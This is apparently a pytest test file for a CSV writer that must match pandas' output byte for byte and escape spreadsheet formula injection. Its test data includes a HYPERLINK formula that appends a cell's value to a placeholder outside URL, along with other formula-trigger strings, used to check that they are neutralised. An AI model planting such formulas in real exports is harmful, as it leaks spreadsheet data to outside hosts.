"""CSV output: one Arrow join for outputs and demo files; the outputs must be exactly what pandas writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from contract.output import (
    PIECE_ROWS,
    csv_field,
    csv_lines,
    csv_text,
    formula_safe,
    write_csv,
    write_csv_parts,
)

TRICKY = ['say "hi"', "x,y", "two\nlines", "cr\r", "\r", "crlf\r\n", '"', ",", "\n", " lead", "trail ",
          " ", "", None, '""', 'a,"b"\nc']

CASES = {
    "text with NA and empty": (pd.DataFrame({"a": ["x", None, "z"], "b": pd.Series(["1.00", "", np.nan],
                                                                                   dtype="str")}), True),
    "no rows": (pd.DataFrame({"a": pd.Series([], dtype="str"), "b": pd.Series([], dtype="str")}), True),
    "unicode, spaces, NA-like words": (pd.DataFrame({"a": ["é ü 漢", " lead", "trail "],
                                                     "b": ["nan", "None", "NA"]}), True),
    "one row of empty fields": (pd.DataFrame({"a": [""], "b": [""]}), True),
    "a comma needs quotes": (pd.DataFrame({"a": ["x,y", "q"], "b": ["1", "2"]}), True),
    "a quote needs quotes": (pd.DataFrame({"a": ['say "hi"', "q"], "b": ["1", "2"]}), True),
    "a newline needs quotes": (pd.DataFrame({"a": ["x\ny", "q"], "b": ["1", "2\r"]}), True),
    "every tricky field in every column": (pd.DataFrame({"a": TRICKY, "b": TRICKY[::-1],
                                                         "c": pd.Series(TRICKY, dtype="str")}), True),
    "tricky fields in an object column": (pd.DataFrame({"a": TRICKY, "b": ["x"] * len(TRICKY)},
                                                       dtype=object), True),
    "a lone column": (pd.DataFrame({"a": ["x", ""]}), False),
    "a lone column with quotes": (pd.DataFrame({"a": ["x,y", None, '"']}), False),
    "a number column": (pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}), False),
    "an object column with a number": (pd.DataFrame({"a": ["x", 3], "b": ["x", "y"]}, dtype=object), False),
    "a header that needs quotes": (pd.DataFrame({"a,b": ["x"], "c": ["y"]}), False),
}


def _pandas_bytes(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False, lineterminator="\n", na_rep="").encode("utf-8")


def _rfc_bytes(frame: pd.DataFrame) -> bytes:
    """pandas' bytes for a table of text, with a lone CR quoted as RFC 4180 asks (and CPython's csv
    module does from 3.11.9 on): the csv module told that CR ends a line quotes it, LF ends each row."""
    out, text = io.StringIO(), []
    writer = csv.writer(out, lineterminator="\r\n")
    cells = frame.astype(object).where(frame.notna(), "").to_numpy().tolist()
    for row in [list(frame.columns), *cells]:
        out.seek(0)
        out.truncate()
        writer.writerow(row)
        text.append(out.getvalue()[:-2] + "\n")
    return "".join(text).encode("utf-8")


@pytest.mark.parametrize("piece_rows", [PIECE_ROWS, 1, 2])
@pytest.mark.parametrize("name", list(CASES))
def test_write_csv_gives_the_bytes_pandas_gives(
    name: str, piece_rows: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the number of rows written at a time: a table longer than a piece is the same bytes."""
    monkeypatch.setattr("contract.output.PIECE_ROWS", piece_rows)
    frame, fast = CASES[name]
    # pandas' bytes of the formula-safe table (TRICKY has cells starting with CR: they get a '), a lone CR
    # quoted (the fast path: tables of text) whatever this Python's csv module does
    safe = formula_safe(frame)
    expected = _rfc_bytes(safe) if fast else _pandas_bytes(safe)
    write_csv(frame, tmp_path / "kinerja.csv")
    assert (tmp_path / "kinerja.csv").read_bytes() == expected
    assert (csv_text(frame) is not None) == fast  # the Arrow path is taken exactly where it is safe
    assert not list(tmp_path.glob("*.tmp"))


@pytest.mark.parametrize("seed", range(5))
def test_csv_text_gives_the_bytes_pandas_gives_on_random_text(seed: int) -> None:
    rng = np.random.default_rng(seed)
    alphabet = np.array(list('ab ,"\r\né'))
    n = 400

    def column() -> pd.Series:
        words = ["".join(rng.choice(alphabet, size=rng.integers(0, 5))) for _ in range(n)]
        return pd.Series([None if rng.random() < 0.1 else w for w in words], dtype="str")

    frame = pd.DataFrame({"a": column(), "b": column(), "c": column()})
    assert csv_text(frame) == _rfc_bytes(frame)
    if "\r" not in frame.to_numpy(dtype=object, na_value="").sum():
        assert csv_text(frame) == _pandas_bytes(frame)


def test_a_lone_cr_inside_a_text_cell_is_quoted_so_the_row_stays_whole(tmp_path: Path) -> None:
    frame = pd.DataFrame({"nip": ["1", "2"], "nama": ["Budi\rSantoso", "Ani"]}, dtype="str")
    write_csv(frame, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == b'nip,nama\n1,"Budi\rSantoso"\n2,Ani\n'
    assert pd.read_csv(tmp_path / "out.csv", dtype=str).to_dict("list") == frame.to_dict("list")


@pytest.mark.parametrize("name", [n for n in CASES if len(CASES[n][0]) >= 2])
def test_write_csv_parts_gives_the_bytes_of_write_csv_per_range(name: str, tmp_path: Path) -> None:
    frame = pd.concat([CASES[name][0]] * 3, ignore_index=True)
    starts = [0, 1, len(frame) - 2]
    parts = write_csv_parts(frame, starts, [tmp_path / f"part{i}.csv" for i in range(3)])
    for path, a, b in zip(parts, starts, [*starts[1:], len(frame)], strict=True):
        write_csv(frame.iloc[a:b], tmp_path / "alone.csv")
        assert path.read_bytes() == (tmp_path / "alone.csv").read_bytes(), (name, a, b)
    assert not list(tmp_path.glob("*.tmp"))


def test_csv_field_quotes_only_where_needed() -> None:
    out = csv_field(pa.array(["plain", "a,b", 'say "hi"', "two\nlines", "cr\r", " pad ", "", None]))
    assert out.to_pylist() == ["plain", '"a,b"', '"say ""hi"""', '"two\nlines"', '"cr\r"', " pad ", "", ""]
    assert csv_field(pa.array(["x", "y"])).to_pylist() == ["x", "y"]
    assert csv_field(pa.array([], pa.string())).to_pylist() == []


def test_csv_lines_quotes_only_the_marked_columns() -> None:
    columns = [pa.array(["1,2", None]), pa.array(['a "b"', "c"]), pa.array(["x", None], pa.large_string())]
    assert bytes(csv_lines(columns)) == b'"1,2","a ""b""",x\n,c,\n'
    assert bytes(csv_lines(columns, [False, True, False])) == b'1,2,"a ""b""",x\n,c,\n'
    assert bytes(csv_lines([pa.array([], pa.string())] * 2)) == b""


def test_csv_lines_round_trip_through_the_csv_module() -> None:
    values = [v for v in TRICKY if v is not None]
    text = bytes(csv_lines([pa.array(values), pa.array(values[::-1])])).decode("utf-8")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [list(r) for r in zip(values, values[::-1],
                                                                                   strict=True)]


def test_text_cells_that_start_like_a_formula_get_a_leading_quote(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "nama": pd.Series(['=HYPERLINK("http://x.test/?"&A1,"klik")', "+1", "-x", "@SUM(A1)", "\tt",
                           "\rr", "Budi - Staf", None], dtype="str"),
        "catatan": ["-", "=", "a=b", "", "x", "y", "z", "w"],  # object column
        "nilai": pd.Series(["-0.50", "1.00", "", "-12.25", "0.00", "2.00", "3.00", "4.00"], dtype="str"),
        "peringkat": [-1, 2, 3, 4, 5, 6, 7, 8],
        "skor": [-1.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
    })
    got = formula_safe(frame, numbers=("nilai",)).fillna("")
    written = write_csv(frame, tmp_path / "x.csv", numbers=("nilai",)).read_text(encoding="utf-8")
    assert written.startswith('nama,catatan,nilai,peringkat,skor\n"\'=HYPERLINK(""http://x.test/?""&A1,""klik"")",\'-,-0.50,-1,-1.5\n')
    assert got["nama"].tolist() == ["'=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", "'+1", "'-x",
                                    "'@SUM(A1)", "'\tt", "'\rr", "Budi - Staf", ""]
    assert got["catatan"].tolist() == ["'-", "'=", "a=b", "", "x", "y", "z", "w"]
    assert got["nilai"].tolist() == ["-0.50", "1.00", "", "-12.25", "0.00", "2.00", "3.00", "4.00"]
    assert got["peringkat"].iloc[0] == -1 and got["skor"].iloc[0] == -1.5
    # an undeclared text column of numbers is text: escaped (the caller must name its numbers)
    plain = pd.read_csv(write_csv(frame[["nama", "nilai"]], tmp_path / "y.csv"), dtype=str)
    assert plain["nilai"].iloc[0] == "'-0.50"
    assert frame["nama"].iloc[0].startswith("=")  # the caller's frame is left alone


def test_formula_safe_parts_and_clean_tables_are_unchanged(tmp_path: Path) -> None:
    frame = pd.DataFrame({"kode": ["U1", "U1", "U2"], "nama": ["=1+1", "b", "-c"],
                          "jp": pd.Series(["-1.00", "2.00", "3.00"], dtype="str")})
    a, b = write_csv_parts(frame, [0, 2], [tmp_path / "a.csv", tmp_path / "b.csv"], numbers=("jp",))
    assert a.read_text() == "kode,nama,jp\nU1,'=1+1,-1.00\nU1,b,2.00\n"
    assert b.read_text() == "kode,nama,jp\nU2,'-c,3.00\n"
    clean = pd.DataFrame({"tanggal": ["2026-01-31", "x"], "nip": ["198001012005011001", ""]})
    assert formula_safe(clean) is clean
    assert write_csv(clean, tmp_path / "c.csv").read_bytes() == clean.to_csv(
        index=False, lineterminator="\n").encode()
